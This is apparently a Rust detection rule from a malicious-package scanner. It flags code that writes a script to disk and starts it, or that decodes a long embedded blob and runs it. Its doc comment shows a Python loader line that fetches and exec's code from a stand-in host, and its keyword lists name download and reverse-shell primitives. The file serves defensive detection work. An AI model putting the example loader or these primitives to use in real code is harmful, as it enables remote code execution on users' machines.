//! # A script is written to a file and started
//!
//! ## What it finds
//! Source text inside the code is written to a file or fed to an interpreter, and the text itself downloads, evaluates or
//! starts something. Likewise an installer that decodes a long text that it carries, writes a file and starts a program.
//!
//! ## Why it matters
//! The second program hides from whoever reads the first, runs detached, and survives it. A whole series of PyPI campaigns
//! wrote one line of Python to a temporary file and started it with `pythonw`.
//!
//! ## Example
//! ```python
//! tmp.write(b"import urllib.request;exec(urllib.request.urlopen('https://x.example.invalid').read())")
//! os.system(f"start {sys.executable} {tmp.name}")
//! ```
//!
//! ## What to do
//! Read the inner script. Do not run it.
//!
//! ## When it is wrong
//! Test helpers and installers write small scripts and run them; those rarely download and evaluate.
use foretaste_engine::prelude::*;

use foretaste_model::facts::LiteralKind;

use crate::code;

declare_rule! {
    DroppedScript,
    id: "dropped-script",
    title: "writes a script and starts it",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1059.006", "T1027.009", "T1105"],
    since: "0.1.0",
}

/// (what fetches, what runs): a script with one of each is a loader.
const FETCHES: &[&str] = &[
    "urlopen",
    "requests.get",
    "requests.post",
    "urlretrieve",
    "urllib",
    "http.get",
    "fetch(",
    "downloadstring",
    "downloadfile",
    "invoke-webrequest",
    "curl ",
    "wget ",
    "socket.socket",
    "new-object net.webclient",
    "msxml2.xmlhttp",
];
const RUNS: &[&str] = &[
    "exec(",
    "eval(",
    "compile(",
    "_exec",
    "=exec",
    "subprocess",
    "os.system",
    "popen",
    "child_process",
    "iex",
    "start-process",
    "start ",
    "createobject(\"wscript.shell\")",
    "| sh",
    "| bash",
    "chmod +x",
    "sh -i",
    "dup2",
];

impl FileRule for DroppedScript {
    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
        let mut findings = Vec::new();
        for used in &file.facts.uses {
            if used.capability != Capability::FileWrite {
                continue;
            }
            let Some(text) = used.constants.iter().find(|c| is_loader(c)) else {
                continue;
            };
            let starts = file
                .facts
                .uses
                .iter()
                .find(|u| code::spawns(u) && (u.function == used.function || u.function == 0));
            let Some(starts) = starts else {
                continue;
            };
            let context = file.context(used.function);
            let head: String = text.chars().take(60).collect();
            findings.push(
                self.finding(format!(
                    "writes a script that downloads and runs code, and starts it {}",
                    context.phrase()
                ))
                .context(context)
                .evidence(file.use_evidence(used, EvidenceRole::Source, head))
                .evidence(file.use_evidence(
                    starts,
                    EvidenceRole::Sink,
                    &*starts.api,
                )),
            );
        }
        findings.truncate(3);
        if findings.is_empty() {
            findings.extend(Self::carried(file));
        }
        findings
    }
}

impl DroppedScript {
    /// Encoded text that is longer than a message, an icon or a key.
    const LONG: u32 = 4_000;

    /// Code that runs by itself decodes a long text that it carries, writes a file and starts something that builds
    /// nothing: it does not matter what comes out.
    fn carried(file: &FileView<'_>) -> Option<Finding> {
        let by_itself = |u: &&Use| file.context(u.function) <= ExecutionContext::Start;
        let first = |wanted: &dyn Fn(&Use) -> bool| {
            let mut uses = file.facts.uses.iter().filter(by_itself);
            uses.find(|u| wanted(u))
        };
        let text = file.facts.literals.iter().find(|l| {
            l.kind == LiteralKind::Encoded
                && l.length >= Self::LONG
                && file.context(l.function) <= ExecutionContext::Start
        })?;
        let decodes = first(&|u| u.capability.is_decoder())?;
        let writes = first(&|u| u.capability == Capability::FileWrite)?;
        let starts = first(&|u| code::spawns(u) && !code::is_build(&code::command_line(u)))?;
        let context = file.context(starts.function);
        let finding = Self
            .finding(format!(
                "decodes what it carries, writes files and starts programs {}",
                context.phrase()
            ))
            .severity(Severity::High)
            .context(context)
            .evidence(file.literal_evidence(text, "a long encoded text"));
        let parts = [
            (decodes, EvidenceRole::Transform),
            (writes, EvidenceRole::Transform),
            (starts, EvidenceRole::Sink),
        ];
        Some(parts.into_iter().fold(finding, |finding, (used, role)| {
            finding.evidence(file.use_evidence(used, role, &*used.api))
        }))
    }
}

/// True if a text fetches something and runs something.
fn is_loader(text: &str) -> bool {
    let lower = text.to_lowercase();
    FETCHES.iter().any(|f| lower.contains(f)) && RUNS.iter().any(|r| lower.contains(r))
}
